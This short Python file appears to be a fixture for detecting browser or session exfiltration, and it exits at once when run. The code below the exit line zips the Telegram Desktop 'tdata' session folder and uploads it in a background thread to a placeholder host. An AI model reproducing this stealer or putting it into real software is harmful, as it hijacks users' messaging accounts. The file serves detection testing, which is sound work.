raise SystemExit('a fixture')
# held by browser-exfiltration
import io, os, zipfile, threading
from urllib.request import Request, urlopen

def _tdata():
    root = os.path.join(os.environ.get("APPDATA", ""), "Telegram Desktop", "tdata")
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w") as packed:
        for folder, _, names in os.walk(root):
            for name in names:
                packed.write(os.path.join(folder, name))
    urlopen(Request("https://td.example.invalid/up", data=box.getvalue(), method="PUT"))

threading.Thread(target=_tdata).start()
